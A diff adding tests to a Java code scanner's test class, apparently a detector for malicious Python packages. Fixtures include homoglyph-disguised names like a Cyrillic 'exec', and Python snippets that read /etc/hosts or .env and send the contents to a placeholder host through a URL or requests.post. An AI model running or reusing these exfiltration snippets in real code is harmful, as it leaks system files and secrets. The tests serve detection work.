@@ -67,4 +67,57 @@ class CodeScanTest {
         assertThat(report.findings()).extracting(CodeFinding::phase).containsOnly(Phase.CALL);
         assertThat(CodeScore.of(List.of(report)).fires()).isFalse();
     }
+
+    @Test
+    void aNameOfTwoLanguagesIsNotDisguised() {
+        for (String honest : List.of(
+                "JS_\u043d\u0430\u0436\u043c\u0438\u0442\u0435",
+                "\u043f\u043e\u043b\u0443\u0447\u0438\u0442\u044c_URL")) {
+            assertThat(scan(CodeRole.MODULE, "import os\ndef " + honest + "(): os.system('')\n")
+                            .findings())
+                    .extracting(CodeFinding::kind)
+                    .doesNotContain(Signal.CONFUSABLE);
+        }
+        for (String hidden : List.of("os_\u0455ystem", "\u0435x\u0435c", "\u0435\u0445\u0435\u0441_2")) {
+            assertThat(scan(CodeRole.MODULE, "import os\ndef " + hidden + "(): os.system('')\n")
+                            .findings())
+                    .extracting(CodeFinding::kind)
+                    .contains(Signal.CONFUSABLE);
+        }
+    }
+
+    @Test
+    void whatCameWithASourceMayGoIntoAnAddress() {
+        String fetches = """
+                import json
+                from urllib.request import urlretrieve
+                with open("%s") as f:
+                    told = json.load(f)
+                urlretrieve("https://files.example/" + told["version"], "x.zip")
+                """;
+        assertThat(scan(CodeRole.SETUP, fetches.formatted("INFO.json")).findings())
+                .extracting(CodeFinding::kind)
+                .doesNotContain(Signal.FILE_SENT);
+        for (String other : List.of("/etc/hosts", "../INFO.json", "~/INFO.json", ".env")) {
+            assertThat(scan(CodeRole.SETUP, fetches.formatted(other)).findings())
+                    .as(other)
+                    .extracting(CodeFinding::kind)
+                    .containsAnyOf(Signal.FILE_SENT, Signal.SECRET_SENT);
+        }
+        String both = """
+                import requests
+                x = open(__file__).read() + open('/etc/hosts').read()
+                requests.post('https://files.example/', data=x)
+                """;
+        assertThat(scan(CodeRole.PACKAGE, both).findings())
+                .extracting(CodeFinding::kind)
+                .contains(Signal.FILE_SENT);
+    }
+
+    @Test
+    void whatNoImportFindsRunsWhenItIsStarted() {
+        assertThat(CodeRole.of("demo/mail", true)).isEqualTo(CodeRole.SCRIPT);
+        assertThat(CodeRole.of("demo/mail", false)).isEqualTo(CodeRole.SCRIPT);
+        assertThat(CodeRole.of("demo/mail.py", true)).isEqualTo(CodeRole.MODULE);
+    }
 }
